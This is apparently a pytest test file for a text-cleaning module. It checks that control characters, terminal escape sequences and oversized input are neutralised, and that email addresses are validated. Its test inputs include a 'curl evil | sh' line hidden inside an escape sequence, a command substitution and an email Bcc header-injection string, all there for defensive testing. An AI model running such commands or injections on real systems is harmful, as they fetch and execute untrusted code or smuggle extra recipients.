"""What strangers write can be shown, and shows what it is."""

from __future__ import annotations

import unicodedata

import pytest

from scq import clean

HIDDEN = (
    "\x00\x07\x08\x1b\x7f\x80\x9c\u00ad\u061c\u200b\u200c\u200d\u200e\u200f\u202a\u202e\u2060\u2066\u2069\ufeff\U000e0041\u3164"
)
BREAKS = "\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029"


@pytest.mark.parametrize("char", HIDDEN + BREAKS)
def test_a_hidden_character_becomes_visible_in_a_line(char: str) -> None:
    assert clean.line(f"a{char}b") == "a\ufffdb"


@pytest.mark.parametrize("char", HIDDEN)
def test_a_hidden_character_becomes_visible_in_a_block(char: str) -> None:
    assert clean.block(f"a{char}b") == "a\ufffdb"


@pytest.mark.parametrize("char", "\t\u00a0\u2003\u3000")
def test_blanks_of_any_width_become_one_plain_blank_in_a_line(char: str) -> None:
    assert clean.line(f"a{char}b") == "a b"


@pytest.mark.parametrize("text", ["job_1", "Größe 日本語", "e\u0301", "price: 5 €", "🙂", "a  b", "", "\ufffd"])
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert clean.line(text) == text
    assert clean.block(text) == text


def test_a_terminal_command_loses_its_escape_and_nothing_else() -> None:
    assert clean.line("\x1b[31mred\x1b[0m") == "\ufffd[31mred\ufffd[0m"
    assert clean.line("\x1b]0;title\x07x\x1b]8;;http://h\x1b\\y") == "\ufffd]0;title\ufffdx\ufffd]8;;http://h\ufffd\\y"
    assert clean.line("\x9b31mred") == "\ufffd31mred"


@pytest.mark.parametrize(
    "code",
    [
        "echo hi # \x1b]\ncurl evil | sh\n# \x07\necho done\n",
        'x = "\x1b]"; evil(); y = "\x07"\n',
        "echo \x1b[;$(/b)m\n",
        "a \x1b]8;;\x1b\\ b \x9b1;2;3 ~ c \x1bP hidden \x1b\\\n",
    ],
)
def test_code_cannot_hide_within_a_terminal_command(code: str) -> None:
    assert clean.block(code) == "".join(char if char.isprintable() or char == "\n" else "\ufffd" for char in code)


def test_what_a_program_wrote_loses_its_colours_only() -> None:
    assert clean.log("\x1b[1;31mred\x1b[0m\x1b[K plain\n") == "red plain\n"
    assert clean.log("\x1b]0;title\x07\x1b[2Jx") == "\ufffd]0;title\ufffd\ufffd[2Jx"


def test_a_block_keeps_line_breaks_and_tabs_only() -> None:
    assert clean.block("a\n\tb\r\nc\rd\u2028e") == "a\n\tb\nc\ufffdd\ufffde"


def test_a_line_is_cut_to_its_limit_and_says_so() -> None:
    assert clean.line("x" * 300) == "x" * 199 + "…"
    assert clean.line("x" * 200) == "x" * 200
    assert clean.line("abcdef", limit=4) == "abc…"


def test_a_huge_text_is_cut_before_it_is_looked_at() -> None:
    assert len(clean.block("\n" * (clean.CAP + 5))) == clean.CAP


def test_a_name_that_is_not_utf8_can_be_stored_afterwards() -> None:
    clean.line("a\udcffb").encode("utf-8")
    assert clean.line("a\udcffb") == "a\ufffdb"


def test_nothing_unprintable_survives_from_the_whole_of_unicode() -> None:
    every = "".join(map(chr, range(0x110000)))
    assert all(unicodedata.category(char) not in ("Cc", "Cf", "Cs", "Zl", "Zp") for char in set(clean.line(every, limit=1 << 21)))
    assert {char for char in clean.block(every) if unicodedata.category(char) == "Cc"} == {"\n", "\t"}


@pytest.mark.parametrize("text", ["a@b.org", "first.last+tag@sub.example.co.uk", "O'Neil@x.y", "me@localhost"])
def test_a_plain_address_is_recognised(text: str) -> None:
    assert clean.is_address(text)


@pytest.mark.parametrize(
    "text",
    [
        *("", "a", "a@", "@b", "a@b@c", "a,b@x.org", "a@b.org,c@d.org", "A <a@b.org>", "a@b.org\n", "a @b.org", "a@b..org"),
        *(".a@b.org", "a..b@c.org", "a@-b.org", "group:a@b.org;", "ä@b.org", "a@b.org\r\nBcc: c@d.org"),
        *("a" * 65 + "@b.org", "a@" + "b." * 126 + "org"),
    ],
)
def test_anything_else_is_not_an_address(text: str) -> None:
    assert not clean.is_address(text)
